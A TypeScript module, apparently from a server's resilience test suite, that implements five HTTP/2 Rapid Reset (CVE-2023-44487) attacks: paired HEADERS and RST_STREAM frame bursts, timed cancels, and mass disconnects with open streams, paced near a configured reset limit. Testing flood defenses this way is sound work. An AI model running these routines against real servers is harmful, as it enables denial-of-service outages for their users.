/** Attacks by giving up calls (CVE-2023-44487): servers count resets, and end the session that everybody's calls are on. */
import { Code, FrameType, uint32, writeFrame } from '../../support/frames.ts'
import { type Attack, Crowd, call, paced } from './attack.ts'
import { headerFrames } from './attack-connection.ts'

const BEGIN = call('Begin')
const SILENT = call('Silent')
/** Below `limits.floods.maxResets.perSecond`. */
const A_SECOND = 2_000
const JUST_BELOW_A_SECOND = 2_900

function pairs(name: string, perSecond: number, each: boolean): Attack {
  return {
    name,
    enough: 1_000,
    start(target, connections) {
      const crowd = new Crowd(target, connections, {})
      return crowd.also(
        paced(each ? perSecond * connections : perSecond, count => {
          // In one write for each connection, as far as one segment goes.
          for (let left = count; left > 0; ) {
            const connection = crowd.next()
            if (connection === undefined) return
            const now = Math.min(left, 25)
            const frames: Buffer[] = []
            for (let at = 0; at < now; at++) {
              const id = connection.newStreamId()
              const payload = uint32(Code.CANCEL)
              frames.push(headerFrames(id, BEGIN, true))
              frames.push(writeFrame({ type: FrameType.RST_STREAM, flags: 0, streamId: id, payload }))
            }
            connection.send(Buffer.concat(frames))
            target.count(now)
            left -= now
          }
        }),
      ).stop
    },
  }
}

/** After the backend has seen the call. */
const cancels: Attack = {
  name: 'cancels, 2,000 a second, once the backend has begun to answer',
  enough: 1_000,
  start(target, connections) {
    const crowd = new Crowd(target, connections, {
      begun: (connection, id) => {
        connection.reset(id, Code.CANCEL)
        target.count(1)
      },
    })
    return crowd.also(
      paced(A_SECOND, count => {
        for (let at = 0; at < count; at++) {
          const connection = crowd.next()
          // What waits in the queue is no cancel yet.
          if (connection === undefined || connection.open.size > 500) return
          connection.request(BEGIN)
        }
      }),
    ).stop
  },
}

/** It does not wait for an answer: some 10 ms after the request. */
const hasty: Attack = {
  name: 'cancels, 2,000 a second, of calls that are never answered',
  enough: 1_000,
  start(target, connections) {
    const crowd = new Crowd(target, connections, {})
    return crowd.also(
      paced(A_SECOND, count => {
        for (const connection of crowd.connections) {
          for (const id of [...connection.open]) {
            connection.reset(id, Code.CANCEL)
            target.count(1)
          }
        }
        for (let at = 0; at < count; at++) crowd.next()?.request(SILENT)
      }),
    ).stop
  },
}

/** Calls that are open when it leaves, all connections together. */
const OPEN = 1_000
/** No further answer came for so long: the others wait for a stream. */
const QUIET_MS = 100

const disconnects: Attack = {
  name: 'disconnects with 1,000 open calls, again and again',
  enough: 3_000,
  start(target, connections) {
    const share = Math.ceil(OPEN / connections)
    const timers = new WeakMap<object, NodeJS.Timeout>()
    const leaveSoon = (connection: { destroy(): void }): void => {
      clearTimeout(timers.get(connection))
      timers.set(
        connection,
        setTimeout(() => {
          target.count(share)
          connection.destroy()
        }, QUIET_MS),
      )
    }
    return new Crowd(target, connections, {
      ready: connection => {
        for (let at = 0; at < share; at++) connection.request(BEGIN, false)
        leaveSoon(connection)
      },
      begun: leaveSoon,
    }).stop
  },
}

export const RESETS: readonly Attack[] = [
  pairs('HEADERS and RST_STREAM in one segment, 2,000 a second', A_SECOND, false),
  pairs('… just below the limit on each connection', JUST_BELOW_A_SECOND, true),
  cancels,
  hasty,
  disconnects,
]
